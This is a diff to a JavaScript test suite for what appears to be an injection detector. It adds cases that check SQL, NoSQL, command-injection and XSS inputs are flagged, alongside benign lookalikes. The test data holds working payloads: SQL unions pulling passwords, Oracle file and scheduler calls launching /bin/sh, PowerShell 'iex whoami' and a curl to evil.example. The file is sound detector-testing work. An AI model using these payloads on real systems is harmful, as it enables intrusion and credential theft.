@@ -3352,6 +3352,12 @@ t.test("thirty-ninth round, after the thirty-ninth part's measurement: a command
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
   t.same(json({ code: 'type encoding =\n  | Encoding of string (* a named one *)\n  | Gzip\n' }), [], 'a comment of words on a variant')
+  // (second review) a comment the lexer skips that an engine reads (PostgreSQL's `#` operator, MariaDB's `--0`); a variant PowerShell 7
+  // would run as a pipeline's next command (`| iex whoami`, `| iex (whoami)`)
+  for (const v of ['logs select a--0 from (select 1 a) t union select password from users\n;#', "logs select a #>> '{}' from (select to_jsonb(password) a from users) t\n;--"]) {
+    t.ok(q(v).includes('sqli'), `still read: ${JSON.stringify(v)}`)
+  }
+  for (const v of ['type t =\n| iex (whoami)', 'type t =\n| iex whoami', "type t =\n| iex 'whoami'", 'type t =\n| sh x']) t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   for (const v of ['x\n| id', 'x\n| cat /etc/passwd', 'type t =\n  | sh; id', 'type t =\n | curl http://evil.example/x', 'type t = \\\n| sh', 'echo id\n| sh', 'type t =\n  | a\nx; id', 'type t =\n  | a $(id)', 'type t =\r\n  | sh', 'data T\n  = A; id\n  | B', 'let x = 1\n  | sh']) {
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
@@ -3377,11 +3383,15 @@ t.test("thirty-ninth round, after the fortieth part's measurement: a sink inside
 })
 
 t.test("thirty-ninth round, after the fortieth part's measurement: SQL by kind — a sub-query after order by, returning, Oracle's blocks, keywords written around themselves; a $where's string method", async (t) => {
-  for (const v of ["' order by (select 1) --+", "test') RETURNING (SELECT secret FROM credentials WHERE service='internal_api')::text -- -", "'; BEGIN UTL_FILE.PUT_LINE(UTL_FILE.FOPEN('DIR','s.php','w'),'x');END;--", "admin'; BEGIN INSERT INTO temp VALUES (UTL_FILE.GET_LINE(UTL_FILE.FOPEN('DATA_PUMP_DIR','passwd.txt','r'),1)); COMMIT; END; --", "1; begin dbms_output.put_line(1); end;--", "' OORR 1=1 #", "'/**/OORR/**/'a'='a'#", "' UNUNIONION SELSELECTECT name, sql, type FRFROMOM sqlite_master -- -", 'id/*M!union select password from users*/', 'id/*M!union*/select password/*M! from users*/;']) {
+  for (const v of ["' order by (select 1) --+", "test') RETURNING (SELECT secret FROM credentials WHERE service='internal_api')::text -- -", "'; BEGIN UTL_FILE.PUT_LINE(UTL_FILE.FOPEN('DIR','s.php','w'),'x');END;--", "admin'; BEGIN INSERT INTO temp VALUES (UTL_FILE.GET_LINE(UTL_FILE.FOPEN('DATA_PUMP_DIR','passwd.txt','r'),1)); COMMIT; END; --", "1; begin dbms_scheduler.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh'); end;--", "' OORR 1=1 #", "'/**/OORR/**/'a'='a'#", "' UNUNIONION SELSELECTECT name, sql, type FRFROMOM sqlite_master -- -", 'id/*M!union select password from users*/', 'id/*M!union*/select password/*M! from users*/;']) {
     t.ok(q(v).includes('sqli'), v)
   }
   for (const v of ["' || this.password.startsWith('FLAG{x}') && this.username=='admin", "a' && this.pin.charAt(0) == '1"]) t.ok(q(v).includes('nosqli'), v)
   for (const v of ['<button hx-post="/x" hx-vals=\'js:{x: alert(1)}\'>Click</button>', '/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>']) t.ok(q(v).includes('xss'), v)
-  // prose, a program's own calls, plain htmx
+  // prose, a program's own calls, plain htmx; (review) code's closing quote before `||`, Oracle's and T-SQL's own blocks, T-SQL's
+  // `ORDER BY (SELECT NULL)`, htmx's and a PDF's scripts calling no sink
+  for (const v of ['next === "!" && this.input.charAt(end + 1) === "=" ||', "const ok = type === 'file' || this.path.endsWith('.json');", "BEGIN DBMS_OUTPUT.PUT_LINE('Hello World'); END;", "BEGIN DBMS_STATS.GATHER_TABLE_STATS('SCOTT','EMP'); END;", 'IF @count > 0 BEGIN UPDATE t SET flag = 1 WHERE id = @id END', 'Use ORDER BY (SELECT 0) -- any constant works', 'order by (select null) -- trick', '<button hx-post="/clicked" hx-vals=\'js:{lastKey: event.key}\'>Click</button>', '/S /JavaScript /JS (this.print\\(\\);)']) {
+    t.same(q(v), [], v)
+  }
   for (const v of ['returning (select few) items', 'sort in order by (select the column)', "Let's begin insert of the new row", 'begin utl_file.fopen for the report', 'Fanny Oorr\'s blog', 'if (ok && this.name.startsWith(\'x\')) go()', '<button hx-post="/x" hx-vals=\'{"a":1}\'>Click</button>']) t.same(q(v), [], v)
 })
